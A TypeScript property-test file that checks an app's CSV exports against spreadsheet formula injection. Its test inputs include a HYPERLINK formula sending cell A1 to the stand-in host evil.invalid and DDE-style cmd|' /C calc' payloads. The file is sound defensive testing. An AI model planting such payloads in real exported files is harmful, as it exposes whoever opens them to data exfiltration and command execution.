/**
 * Issue 7 §3: every CSV the app writes is safe to open in Excel. Property tests over any text and any number
 * (fast-check), then each builder of a download with hostile text from data: the league, changes and rejections
 * downloads, and the framework CSVs (which are read back, so their escaping must be exactly reversible).
 * The views' own downloads (compare, missions, misses, district) build their rows inline and go through
 * `toExcelCsv`; e2e/hostile-data.e2e.ts downloads each of them.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Framework } from '../domain/framework';
import { parsePeriodId } from '../domain/periods';
import { changesCsv } from '../components/import-text';
import { frameworkToCsvFiles, readFrameworkFiles } from '../ingest/framework-files';
import { rejectionsToCsv } from '../ingest/results';
import type { KpiCell, LeagueTable } from '../scoring/league';
import { leagueExportRows } from '../scoring/league-format';
import {
  escapeFormulaText,
  looksLikeFormula,
  safeCell,
  toExcelCsv,
  unescapeFormulaText,
  type CsvCell
} from '../domain/excel-csv';

/** Texts that start like formulas (and some that do not), with quotes, commas and line breaks. */
const text = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''+", '\n', ' =', '"', ','),
      fc.string({ unit: fc.constantFrom('a', 'ก', '=', '+', '-', '@', '"', ',', '\r', '\n', '\t', "'", '1') })
    )
    .map(([head, tail]) => head + tail)
);
const number = fc.double({ noNaN: true, noDefaultInfinity: true });

const BOM = '\uFEFF';

/**
 * The cells of a CSV file as a spreadsheet reads them (RFC 4180: comma-separated, `"` quotes with `""` inside,
 * CRLF line ends), after the BOM. Written here, not with the app's reader, so that it is an independent check.
 */
function cells(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let i = BOM.length;
  while (i < csv.length) {
    let cell = '';
    if (csv[i] === '"') {
      i++;
      for (;;) {
        if (i >= csv.length) throw new Error('unclosed quote');
        if (csv[i] === '"' && csv[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (csv[i] === '"') {
          i++;
          break;
        } else cell += csv[i++];
      }
    } else {
      while (i < csv.length && csv[i] !== ',' && csv[i] !== '\r') {
        expect(csv[i], 'a line break or quote in an unquoted cell').not.toMatch(/["\n]/);
        cell += csv[i++];
      }
    }
    row.push(cell);
    if (csv[i] === ',') i++;
    else if (csv.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(csv[i])} at ${i}`);
  }
  return rows;
}

/** A text cell as written is inert: it does not start like a formula. */
function expectInert(cell: string): void {
  expect(looksLikeFormula(cell), JSON.stringify(cell)).toBe(false);
}

const RUNS = { numRuns: 3000 };

describe('toExcelCsv (every view download)', () => {
  it('no text cell starts like a formula, texts read back as written (after the quote), numbers stay numbers', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.oneof(text, number, fc.constant(null)), { minLength: 1, maxLength: 6 }), {
          minLength: 1,
          maxLength: 6
        }),
        (rows) => {
          const width = Math.max(...rows.map((row) => row.length));
          const padded = rows.map((row) => [...row, ...Array<CsvCell>(width - row.length).fill(null)]);
          const header = padded[0].map((_, i) => (i === 0 ? '=header' : `h${i}`));
          const csv = toExcelCsv(header, padded);
          const read = cells(csv);
          expect(read[0][0]).toBe("'=header");
          padded.forEach((row, r) => {
            row.forEach((cell, c) => {
              const got = read[r + 1][c];
              if (typeof cell === 'number') {
                // A plain number, equal to the value to 15 significant digits (-0 is written 0).
                expect(got).toMatch(/^-?\d+(\.\d+)?(e[+-]\d+)?$/);
                const rounded = Number(cell.toPrecision(15));
                expect(Number(got) === (Number.isFinite(rounded) ? rounded : cell)).toBe(true);
              } else if (cell === null) expect(got).toBe('');
              else {
                expectInert(got ?? '');
                expect(got).toBe(looksLikeFormula(cell ?? '') ? `'${cell}` : cell);
              }
            });
          });
        }
      ),
      RUNS
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.invalid/?"&A1,"คลิก")', `'=HYPERLINK("http://evil.invalid/?"&A1,"คลิก")`],
    ['+66812345678', "'+66812345678"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['ราชสาส์น', 'ราชสาส์น']
  ])('%j is written inert', (input, expected) => {
    expect(cells(toExcelCsv(['x'], [[input]]))[1][0]).toBe(expected);
  });

  it('negative numbers and zero are plain numbers', () => {
    expect(toExcelCsv(['a', 'b', 'c'], [[-1.5, 0, -0.0001]])).toBe(`${BOM}a,b,c\r\n-1.5,0,-0.0001\r\n`);
    expect(safeCell(-42)).toBe('-42');
  });
});

describe('the framework CSVs (a data file read back: escaping is reversible)', () => {
  it('unescape(escape(text)) is the text, and an escaped text never starts like a formula', () => {
    fc.assert(
      fc.property(text, (value) => {
        const escaped = escapeFormulaText(value);
        expectInert(escaped);
        expect(unescapeFormulaText(escaped)).toBe(value);
      }),
      RUNS
    );
  });

  /** A framework whose every text starts like a formula, with negative thresholds that must stay numbers. */
  const hostile: Framework = {
    id: '=cmd|calc',
    name: '+ชุดเกณฑ์',
    province: 'ฉะเชิงเทรา',
    fiscalYear: 2565,
    period: 'R2',
    notes: ['-หมายเหตุ', "'=ไม่ใช่สูตร"],
    source: '@ที่มา',
    kpis: [
      {
        kpi: '=A1',
        name: '=HYPERLINK("http://evil.invalid")',
        group: '-ทีม',
        weight: 100,
        scale: '1-5',
        measure: 'growth_pct',
        aggregate: 'last',
        interpolate: false,
        targetLevel: '+4',
        parent: null,
        combine: null,
        unitLabel: '@ร้อยละ',
        min: -100,
        max: null,
        howToReport: "-'รายงาน",
        shortName: '=SUM(A1)'
      }
    ],
    bands: [
      { kpi: '=A1', level: '@5', points: 5, op: '>=', value: -5, value2: null, unit: null, label: '=1+1' },
      {
        kpi: '=A1',
        level: '+4',
        points: 4,
        op: 'between',
        value: -20,
        value2: -5,
        unit: null,
        label: '-20 ถึง -5'
      },
      { kpi: '=A1', level: '-3', points: 3, op: 'any', value: null, value2: null, unit: null, label: '-' },
      { kpi: '=A1', level: '@5', points: 5, op: '>=', value: -10, value2: null, unit: 'บางคล้า', label: "''@" }
    ],
    targets: [{ kpi: '=A1', unit: 'บางคล้า', month: '2022-04', target: -1.25, baseline: -3 }]
  };
  const NUMERIC_COLUMNS = new Set([
    'fiscal_year',
    'weight',
    'points',
    'value',
    'value2',
    'target',
    'baseline',
    'min',
    'max'
  ]);

  it('writes no text cell that starts like a formula; numbers (negative ones too) stay plain numbers', () => {
    for (const file of frameworkToCsvFiles(hostile)) {
      const [header, ...rows] = cells(file.text);
      for (const row of rows) {
        row.forEach((cell, i) => {
          if (NUMERIC_COLUMNS.has(header[i]))
            expect(cell === '' || Number.isFinite(Number(cell)), `${file.name} ${header[i]} ${cell}`).toBe(
              true
            );
          else expectInert(cell);
        });
      }
    }
    const levels = cells(frameworkToCsvFiles(hostile).find((f) => f.name === 'levels.csv')!.text);
    expect(levels[2]).toEqual(["'=A1", "'+4", '4', 'between', '-20', '-5', '', "'-20 ถึง -5"]);
  });

  it('reads back exactly the framework it wrote', () => {
    const read = readFrameworkFiles(frameworkToCsvFiles(hostile));
    expect(read.issues.filter((i) => i.severity === 'error')).toEqual([]);
    expect(read.framework).toEqual(hostile);
  });

  it('round-trips any text in any text field', () => {
    const trimmed = text
      .map((value) => value.trim())
      .filter((value) => value !== '' && !value.includes(' | '));
    fc.assert(
      fc.property(trimmed, trimmed, trimmed, (name, label, group) => {
        const fw: Framework = {
          ...hostile,
          name,
          kpis: [{ ...hostile.kpis[0], group }],
          bands: hostile.bands.map((band, i) => (i === 0 ? { ...band, label } : band))
        };
        const read = readFrameworkFiles(frameworkToCsvFiles(fw));
        expect(read.framework?.name).toBe(name);
        expect(read.framework?.kpis[0].group).toBe(group);
        expect(read.framework?.bands[0].label).toBe(label);
      }),
      { numRuns: 1000 }
    );
  });
});

describe('downloads built from data', () => {
  const framework: Framework = {
    id: 'fw',
    name: 'กรอบ',
    province: 'ฉะเชิงเทรา',
    fiscalYear: 2565,
    period: 'R2',
    kpis: [
      {
        ...({} as Framework['kpis'][number]),
        kpi: '=K1',
        name: 'x',
        group: null,
        weight: 100,
        scale: '1-5',
        measure: 'value',
        aggregate: 'last',
        interpolate: false,
        targetLevel: null,
        parent: null,
        combine: null
      }
    ],
    bands: [],
    targets: [],
    notes: []
  };
  const cell = (level: string | null, measured: number | null): KpiCell => ({
    kpi: '=K1',
    value: measured,
    target: null,
    baseline: null,
    adjust: null,
    monthsReported: 1,
    lastMonth: '2022-09',
    measured,
    level,
    points: 1,
    bandLabel: null,
    score: 1,
    status: level === null ? 'below' : 'ok',
    isTop: false,
    next: null
  });

  it('the league table: KPI ids and level labels are inert, negative values stay numbers', () => {
    const table: LeagueTable = {
      framework,
      period: parsePeriodId('FY2565-R2')!,
      group: '*',
      kpis: framework.kpis,
      rows: [
        {
          rank: 1,
          unitId: '2402',
          unit: 'บางคล้า',
          province: 'ฉะเชิงเทรา',
          total: 1,
          maxTotal: 5,
          totalPct: 20,
          missing: 0,
          topCount: 0,
          previousRank: 3,
          movement: -2,
          cells: { '=K1': cell('@5', -12.5) }
        }
      ]
    };
    const { header, rows } = leagueExportRows(table);
    const read = cells(toExcelCsv(header, rows));
    expect(read[0]).toContain("'=K1 ค่าที่วัด");
    expect(read[1]).toEqual(['1', '-2', 'บางคล้า', 'ฉะเชิงเทรา', '1', '20', '0', '-12.5', "'@5", '1']);
  });

  it('changed values: KPI ids and file names are inert, figures stay numbers', () => {
    const csv = changesCsv([
      {
        unitId: '2402',
        unit: 'บางคล้า',
        kpi: '-K',
        month: '2022-09',
        before: { value: -1, target: null, baseline: null, adjust: null, source: '=old.csv', line: 3 },
        after: { value: 2, target: null, baseline: null, adjust: -0.5, source: '@new.csv', line: 4 }
      }
    ]);
    const [, row] = cells(csv);
    expect(row).toEqual([
      'บางคล้า',
      '2402',
      "'-K",
      '2022-09',
      '-1',
      '2',
      '',
      '',
      '',
      '',
      '',
      '-0.5',
      "'=old.csv",
      '3',
      "'@new.csv",
      '4'
    ]);
  });

  it('rejected rows: any file, column, reason and suggestion text is inert', () => {
    fc.assert(
      fc.property(
        text,
        text,
        text,
        fc.array(text, { maxLength: 3 }),
        fc.nat(),
        (file, column, reason, suggestions, line) => {
          const read = cells(rejectionsToCsv([{ file, line, column, reason, suggestions }]));
          expect(read[0]).toEqual(['file', 'line', 'column', 'reason', 'suggestions']);
          read[1].forEach(expectInert);
          expect(read[1][1]).toBe(String(line));
          expect(read[1][0]).toBe(looksLikeFormula(file) ? `'${file}` : file);
        }
      ),
      RUNS
    );
  });
});
